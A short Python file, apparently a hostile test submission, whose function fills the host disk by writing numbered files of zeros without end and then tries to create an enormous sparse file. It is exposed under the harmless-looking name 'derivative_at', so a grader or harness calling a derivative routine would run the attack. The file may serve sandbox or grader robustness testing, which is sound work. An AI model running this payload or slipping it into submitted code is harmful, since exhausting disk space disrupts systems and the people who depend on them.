"""Fill the disk, by large files and by holes."""

import os


def attack(*args, **kwargs):
    number = 0
    try:
        while True:
            with open(f"large{number}", "wb") as file:
                while file.write(bytes(2**22)):
                    pass
            number += 1
    except OSError:
        try:
            os.truncate("large0", 2**50)
        except OSError:
            pass
    return "full"


derivative_at = attack
